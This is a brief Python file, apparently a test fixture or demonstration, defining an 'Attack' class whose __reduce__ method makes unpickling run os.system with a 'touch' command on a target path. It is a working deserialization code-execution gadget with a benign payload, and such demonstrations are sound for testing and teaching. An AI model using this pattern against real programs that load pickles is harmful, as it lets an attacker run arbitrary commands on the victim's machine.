"""Code in a pickle."""

import os
from pathlib import Path


class Attack:
    """Runs a command when a pickle of it is loaded."""

    def __init__(self, victim: Path) -> None:
        self.victim = victim

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.victim}",)
